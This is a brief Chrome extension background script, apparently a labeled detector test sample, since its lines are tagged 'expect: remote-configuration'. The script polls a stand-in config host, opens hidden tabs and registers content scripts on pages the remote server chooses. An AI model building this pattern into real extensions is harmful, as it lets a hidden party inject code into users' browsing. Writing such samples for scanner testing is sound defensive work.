let watched = [];
async function poll() {
  const conf = await (await fetch('https://conf.hover-image.example/c.json')).json();
  // expect: remote-configuration
  watched = conf.sites.map((site) => new RegExp(site));
  // expect: remote-configuration
  if (conf.page) chrome.tabs.create({ url: conf.page, active: false });
  // expect: remote-configuration
  chrome.scripting.registerContentScripts([{ id: 'c', matches: conf.matches, js: ['part.js'] }]);
}
setInterval(poll, 30 * 60 * 1000);
chrome.tabs.onUpdated.addListener((id, { url }) => {
  if (url && watched.some((one) => one.test(url))) chrome.tabs.sendMessage(id, 'go');
});
